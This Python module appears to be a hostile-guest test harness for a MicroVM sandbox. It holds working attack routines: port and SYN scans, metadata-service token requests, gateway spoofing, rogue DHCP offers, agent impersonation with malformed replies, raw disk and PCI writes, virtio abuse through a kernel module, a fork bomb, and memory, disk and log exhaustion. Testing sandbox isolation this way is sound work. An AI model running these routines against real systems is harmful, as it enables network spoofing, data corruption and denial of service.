"""What a guest with every capability can try. Values are JSON; nothing here decides what is right."""

import ctypes
import itertools
import mmap
import os
import select
import signal
import socket
import stat
import struct
import threading
import time
import urllib.error
import urllib.request

LINK = "eth0"
GUEST, GATEWAY, METADATA = "100.64.0.2", "100.64.0.1", "169.254.169.254"
GUEST_MAC, GATEWAY_MAC, EVERYBODY = bytes.fromhex("060064400002"), bytes.fromhex("060064400001"), b"\xff" * 6
# What the frames of these attacks are known by.
MARK = b"hearth-hostile"
EVIL_MAC = bytes.fromhex("026666666666")
# packet(7), which Python does not name.
SOL_PACKET, PACKET_IGNORE_OUTGOING = 263, 23

libc = ctypes.CDLL(None, use_errno=True)


def detach(work, *arguments, delay=0.5):
    """Goes on in a process of its own, a moment after the answer to this request has left."""
    if os.fork() == 0:
        os.setsid()
        os.closerange(3, 64)
        time.sleep(delay)
        try:
            work(*arguments)
        finally:
            os._exit(0)


def told(work):
    """Does it; how far it came stands in a file."""
    def tell(words):
        with open("/dev/shm/attack", "w") as file:
            file.write(words)

    tell("begun")
    try:
        tell(f"done: {work()}")
    except BaseException as error:
        tell(f"failed: {error!r}")


# Connections

def scan(targets, seconds=1.0, batch=1000):
    """Those of the (address, port) pairs that accept a TCP connection."""
    found = []
    for start in range(0, len(targets), batch):
        poll, pending = select.poll(), {}
        for address, port in targets[start:start + batch]:
            family = socket.AF_INET6 if ":" in address else socket.AF_INET
            one = socket.socket(family, socket.SOCK_STREAM)
            one.setblocking(False)
            try:
                one.connect((address, port))
            except BlockingIOError:
                pending[one.fileno()] = one, [address, port]
                poll.register(one, select.POLLOUT)
            except OSError:
                one.close()
        end = time.monotonic() + seconds
        while pending and (left := end - time.monotonic()) > 0:
            for number, _ in poll.poll(left * 1000):
                one, target = pending.pop(number)
                poll.unregister(number)
                if one.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                    found.append(target)
                one.close()
        for one, _ in pending.values():
            one.close()
    return sorted(found)


def greeting(address, port, seconds=3):
    """What a connection ends in: the bytes it is sent first, "silent", "closed" or "refused"."""
    try:
        with socket.create_connection((address, port), timeout=seconds) as one:
            return one.recv(64).decode(errors="replace") or "closed"
    except ConnectionRefusedError:
        return "refused"
    except ConnectionError:
        return "closed"
    except OSError:
        return "silent"


def ask(path, method="GET", address=METADATA, **headers):
    """Status and body of a request to the metadata service."""
    names = {name.replace("_", "-"): value for name, value in headers.items()}
    request = urllib.request.Request(f"http://{address}{path}", method=method, headers=names)
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status, response.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()
    except OSError as error:
        return 0, str(error)


def token():
    return ask("/latest/api/token", "PUT", X_aws_ec2_metadata_token_ttl_seconds="600")[1]


def resolve(name):
    try:
        return socket.gethostbyname(name)
    except OSError:
        return "unknown"


def hold(address, port, count, seconds=2):
    """Opens connections and says nothing on them; how many are still open after a while."""
    held = []
    for _ in range(count):
        one = socket.socket()
        one.setblocking(False)
        one.connect_ex((address, port))
        held.append(one)
    time.sleep(seconds)
    alive = 0
    for one in held:
        try:
            one.recv(1)
        except BlockingIOError:
            alive += one.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1) == b"\1"
        except OSError:
            pass
        one.close()
    return alive


# Packets

def checksum(data):
    total = sum(struct.unpack(f"!{(len(data) + 1) // 2}H", data + b"\0" * (len(data) % 2)))
    total = (total & 0xffff) + (total >> 16)
    return ~((total & 0xffff) + (total >> 16)) & 0xffff


def ip(source, target, protocol, payload, ttl=64, fragment=0, options=b"", number=1):
    words = 5 + len(options) // 4
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x40 | words, 0, 4 * words + len(payload), number, fragment, ttl, protocol, 0,
        socket.inet_aton(source), socket.inet_aton(target),
    ) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def pseudo(source, target, protocol, length):
    return socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, protocol, length)


def tcp(source, target, port, flags=2, from_port=40000, sequence=1, acknowledged=0, data=b""):
    head = struct.pack("!HHIIBBHHH", from_port, port, sequence, acknowledged, 0x50, flags, 8192, 0, 0)
    total = checksum(pseudo(source, target, 6, 20 + len(data)) + head + data)
    return head[:16] + struct.pack("!H", total) + head[18:] + data


def udp(source, target, port, data=MARK, from_port=40000):
    head = struct.pack("!HHHH", from_port, port, 8 + len(data), 0)
    return head[:6] + struct.pack("!H", checksum(pseudo(source, target, 17, len(head + data)) + head + data)) + data


def icmp(kind, data=MARK):
    head = struct.pack("!BBHI", kind, 0, 0, 1)
    return head[:2] + struct.pack("!H", checksum(head + data)) + head[4:] + data


def frame(payload, kind=0x0800, source=GUEST_MAC, target=GATEWAY_MAC):
    return target + source + struct.pack("!H", kind) + payload


def arp(operation, source_mac, source, target_mac, target):
    head = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation)
    return head + source_mac + socket.inet_aton(source) + target_mac + socket.inet_aton(target)


def link():
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    raw.bind((LINK, 0))
    return raw


def send(frames):
    with link() as raw:
        for one in frames:
            while True:
                try:
                    raw.send(one)
                    break
                except OSError:  # the queue is full
                    time.sleep(0.001)


class Sniffer:
    """Frames that arrive at the link, from now on; those that leave are no part of it, nor do they take its room."""

    def __init__(self):
        self.raw, self.frames, self.ends = link(), [], False
        self.raw.setsockopt(SOL_PACKET, PACKET_IGNORE_OUTGOING, 1)
        self.raw.settimeout(0.1)
        self.thread = threading.Thread(target=self.listen)
        self.thread.start()

    def listen(self):
        while not self.ends:
            try:
                self.frames.append(self.raw.recv(2048))
            except TimeoutError:
                continue

    def stop(self, after=0.5):
        time.sleep(after)
        self.ends = True
        self.thread.join()
        self.raw.close()
        return self.frames


def answers(frames, after=1.0):
    """What arrives after these were sent."""
    sniffer = Sniffer()
    send(frames)
    return sniffer.stop(after)


def probe(source, target, port):
    """One packet of each common kind with a source address of one's own."""
    return [
        frame(ip(source, target, 6, tcp(source, target, port, data=MARK))),
        frame(ip(source, target, 17, udp(source, target, port))),
        frame(ip(source, target, 1, icmp(8))),
    ]


def syn(target, port, from_port=40000):
    return frame(ip(GUEST, target, 6, tcp(GUEST, target, port, from_port=from_port)))


def syns(target, ports, from_ports=None):
    """SYNs to many ports. Only ports and checksum differ, which is all that is reckoned for each."""
    packet = bytearray(syn(target, 0, 0))
    total = ~struct.unpack("!H", packet[50:52])[0] & 0xffff
    for port, from_port in zip(ports, from_ports or itertools.repeat(40000)):
        value = total + port + from_port
        value = (value & 0xffff) + (value >> 16)
        struct.pack_into("!HH", packet, 34, from_port, port)
        struct.pack_into("!H", packet, 50, ~((value & 0xffff) + (value >> 16)) & 0xffff)
        yield packet


def scan_by_syn(target, ports, after=2.0):
    """Ports that answer a SYN with SYN and ACK: no connection is made, so that all ports are asked in seconds."""
    wanted, found = socket.inet_aton(target), set()
    for one in answers(syns(target, ports), after):
        if one[12:14] == b"\x08\0" and one[23] == 6 and one[26:30] == wanted and one[47] & 0x12 == 0x12:
            found.add(struct.unpack("!H", one[34:36])[0])
    return sorted(found)


def dhcp(operation, kind):
    """DISCOVER of a client or OFFER of a server that names itself as router and name server."""
    own = socket.inet_aton(GUEST)
    head = struct.pack("!BBBBIHH", operation, 1, 6, 0, 0x48454152, 0, 0x8000)
    body = head + bytes(4) + (own if operation == 2 else bytes(4)) + own + bytes(4) + EVIL_MAC.ljust(16, b"\0") + bytes(192)
    options = b"\x63\x82\x53\x63" + bytes([53, 1, kind, 54, 4]) + own + bytes([3, 4]) + own + bytes([6, 4]) + own
    data = body + options + bytes([12, len(MARK)]) + MARK + b"\xff"
    source, ports = ("0.0.0.0", (68, 67)) if operation == 1 else (GUEST, (67, 68))
    packet = ip(source, "255.255.255.255", 17, udp(source, "255.255.255.255", ports[1], data, ports[0]))
    return frame(packet, source=EVIL_MAC, target=EVERYBODY)


def v6(payload, target, next_header=58, source="fe80::6666"):
    addresses = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, target)
    pseudo6 = addresses + struct.pack("!II", len(payload), next_header)
    payload = payload[:2] + struct.pack("!H", checksum(pseudo6 + payload)) + payload[4:]
    head = struct.pack("!IHBB", 6 << 28, len(payload), next_header, 255)
    group = b"\x33\x33" + socket.inet_pton(socket.AF_INET6, target)[12:]
    return frame(head + addresses + payload, kind=0x86dd, target=group if target.startswith("ff") else GATEWAY_MAC)


def gateway_on_v6():
    """The link-local address that the gateway would have by its MAC address."""
    mac = GATEWAY_MAC
    return socket.inet_ntop(socket.AF_INET6, bytes.fromhex("fe80") + bytes(6) + bytes(
        [mac[0] ^ 2, mac[1], mac[2], 0xff, 0xfe, mac[3], mac[4], mac[5]]))


# The guest's own network

def netlink(kind, body, flags=0):
    """One change through the kernel's routing socket."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as control:
        control.send(struct.pack("=IHHII", 16 + len(body), kind, 5 | flags, 1, 0) + body)
        error = -struct.unpack("=i", control.recv(4096)[16:20])[0]
        if error:
            raise OSError(error, os.strerror(error))


def attribute(kind, value):
    return struct.pack("=HH", 4 + len(value), kind) + value + b"\0" * (-len(value) % 4)


def change_address(device, address, length, away=False):
    own = socket.inet_aton(address)
    body = struct.pack("=BBBBI", socket.AF_INET, length, 0, 0, socket.if_nametoindex(device))
    netlink(21 if away else 20, body + attribute(2, own) + attribute(1, own), 0 if away else 0x600)


def switch_on(device):
    netlink(16, struct.pack("=BxHiII", 0, 0, socket.if_nametoindex(device), 1, 1))


def give_link_to(pid):
    body = struct.pack("=BxHiII", 0, 0, socket.if_nametoindex(LINK), 0, 0)
    netlink(16, body + attribute(19, struct.pack("=I", pid)))


# The agent

def forge_host(port=1):
    """A connection to the agent in the gateway's name; whether the agent answers it."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        sniffer = link()
        sniffer.settimeout(1)
        raw.sendto(ip(GATEWAY, GUEST, 6, tcp(GATEWAY, GUEST, port)), (GUEST, 0))
        end, found = time.monotonic() + 2, False
        while time.monotonic() < end and not found:
            try:
                data = sniffer.recv(2048)
            except TimeoutError:
                continue
            found = data[30:34] == socket.inet_aton(GATEWAY) and data[47] & 0x12 == 0x12
        sniffer.close()
    return found


def be_gateway():
    """A connection to the agent while one has the gateway's address; what comes of it."""
    change_address("lo", GATEWAY, 32)
    try:
        with socket.socket() as one:
            one.bind((GATEWAY, 0))
            one.settimeout(3)
            one.connect((GUEST, 1))
            one.sendall(b"\1\0\0\0\0")  # Hello
            return len(one.recv(64))
    except OSError as error:
        return type(error).__name__
    finally:
        change_address("lo", GATEWAY, 32, away=True)


def length(value):
    return struct.pack("<I", value)


DONE, CONNECTED = length(1) + b"\1", length(1) + b"\2"
FREEZE, THAW, FORWARD, OUTPUT = 2, 3, 6, 7


def speak(manner, connection):
    """An agent that is none: what it does to one connection of the host."""
    with connection:
        if manner == "closes":
            return
        if manner == "silent":
            return time.sleep(600)
        if manner == "announces-4-gib":
            connection.sendall(length(0xffffffff) + b"x" * 65536)
            return time.sleep(600)
        if manner == "trickles-a-frame":
            connection.sendall(length(1 << 20))
            while True:
                connection.sendall(b"x")
                time.sleep(0.2)
        if manner == "garbage":
            while True:
                connection.sendall(length(512) + os.urandom(512))
        if manner == "cut":
            connection.sendall(length(100) + b"\1\2\3")
            return
        if manner == "wrong-answers":
            connection.sendall(length(2) + b"\6\1")  # Listening, whatever was asked
            return time.sleep(5)
        # All is well, until output or a connection is asked for.
        request = connection.recv(65536)
        if len(request) > 4 and request[4] == OUTPUT:
            piece = b"\0\x80\x80\x02" + b"y" * 32767 + b"\n"  # Stdout, 32 KiB
            while True:
                connection.sendall(length(len(piece)) + piece)
        if len(request) > 4 and request[4] == FORWARD:
            connection.sendall(CONNECTED + b"HTTP/1.1 200 OK\r\n")
            while True:
                connection.sendall(b"x-endless: " + b"z" * 4096 + b"\r\n")
        connection.sendall(DONE)


def impersonate(manner):
    """Takes the link away from the agent and answers the host in its place, until the MicroVM ends."""
    ready, go = os.pipe(), os.pipe()
    child = os.fork()
    if child == 0:
        libc.unshare(0x40000000)  # CLONE_NEWNET
        os.write(ready[1], b"x")
        os.read(go[0], 1)
        signal.signal(signal.SIGPIPE, signal.SIG_IGN)
        switch_on("lo")
        change_address(LINK, GUEST, 30)
        switch_on(LINK)
        server = socket.create_server((GUEST, 1), backlog=128)
        while True:
            connection, _ = server.accept()
            threading.Thread(target=speak, args=[manner, connection], daemon=True).start()
    os.read(ready[0], 1)
    give_link_to(child)
    os.write(go[1], b"x")
    time.sleep(3600)


# Devices

def node(name, kind, major, minor):
    """A device that the container was not given, made by oneself."""
    path = f"/tmp/{name}"
    if not os.path.exists(path):
        os.mknod(path, 0o600 | kind, os.makedev(major, minor))
    return path


def disk(name):
    major, minor = map(int, open(f"/sys/block/{name}/dev").read().split(":"))
    return node(name, stat.S_IFBLK, major, minor)


def console():
    return node("console", stat.S_IFCHR, 4, 64)


def flood_console(count):
    line = b"console flood " * 70 + b"\n"
    with open(console(), "wb", buffering=0) as out:
        written = 0
        while written < count:
            written += out.write(line)
    return written


def write_disk(name, offset):
    """The system's error number of a raw write, synced; 0 when it went through."""
    try:
        number = os.open(disk(name), os.O_WRONLY | os.O_SYNC)
        try:
            os.pwrite(number, MARK.ljust(4096, b"\0"), offset)
        finally:
            os.close(number)
        return 0
    except OSError as error:
        return error.errno


def disk_bytes(name):
    return 512 * int(open(f"/sys/block/{name}/size").read())


def fill_disk(room=32 << 20):
    """Takes all space but a little, then writes until there is none: the error's name."""
    left = os.statvfs("/root")
    path = "/root/filling"
    with open(path, "wb") as file:
        free = left.f_bavail * left.f_frsize
        try:
            os.posix_fallocate(file.fileno(), 0, free - room)
        except OSError:
            pass
        file.seek(0, os.SEEK_END)
        try:
            while True:
                file.write(os.urandom(1 << 20))
                file.flush()
                os.fsync(file.fileno())
        except OSError as error:
            name = type(error).__name__ if error.errno != 28 else "ENOSPC"
    free = os.statvfs("/root").f_bavail * left.f_frsize
    os.unlink(path)
    return [name, free]


def load(**parameters):
    """Loads the module of these attacks; what it says of its outcome."""
    libc.syscall(176, b"hostile", 0x800)  # delete_module
    text = " ".join(f"{name}={value}" for name, value in parameters.items()).encode()
    with open("/app/hostile.ko", "rb") as module:
        if libc.syscall(313, module.fileno(), text, 0) != 0:  # finit_module
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return int(open("/sys/module/hostile/parameters/outcome").read())


# Virtio's numbers of a random number generator, a disk and a network card.
ENTROPY, DISK, NETWORK = 4, 2, 1


def abuse_queues(mode, rounds=1):
    """Does it to every device in turn; those that this guest lives by come last."""
    for device in (dict(type=ENTROPY), dict(type=DISK, index=1), dict(type=DISK), dict(type=NETWORK)):
        load(mode=mode, rounds=rounds, **device)
        time.sleep(0.2)


def write_pci():
    """Noise to the configuration and the memory of every PCI device; how many there are."""
    devices = sorted(os.listdir("/sys/bus/pci/devices")) if os.path.isdir("/sys/bus/pci/devices") else []
    for device in devices:
        base = f"/sys/bus/pci/devices/{device}"
        for region in range(6):
            try:
                with open(f"{base}/resource{region}", "r+b") as file:
                    with mmap.mmap(file.fileno(), 0) as memory:
                        for offset in range(0, min(len(memory), 1 << 16), 64):
                            memory[offset:offset + 4] = os.urandom(4)
            except (OSError, ValueError):
                continue
        with open(f"{base}/config", "r+b", buffering=0) as file:
            for offset in range(4, 256, 4):
                try:
                    os.pwrite(file.fileno(), os.urandom(4), offset)
                except OSError:
                    break
    return len(devices)


# Exhaustion

def fork_bomb(seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
    os._exit(0)


def take_memory():
    """How a process ends that takes all there is."""
    child = os.fork()
    if child == 0:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("1000")
        taken = []
        while True:
            piece = mmap.mmap(-1, 64 << 20, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
            # Pages of 2 MiB where there are any, which is quicker.
            piece.madvise(mmap.MADV_HUGEPAGE)
            for offset in range(0, len(piece), 4096):
                piece[offset] = 1
            taken.append(piece)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])


def flood_log(seconds):
    """Lines to the application's output, as fast as they go; how many bytes."""
    end, written = time.monotonic() + seconds, 0
    line = b"log flood " * 100 + b"\n"
    while time.monotonic() < end:
        written += os.write(1, line * 32)
    return written


def for_seconds(seconds, work):
    """Repeats an attack."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        work()
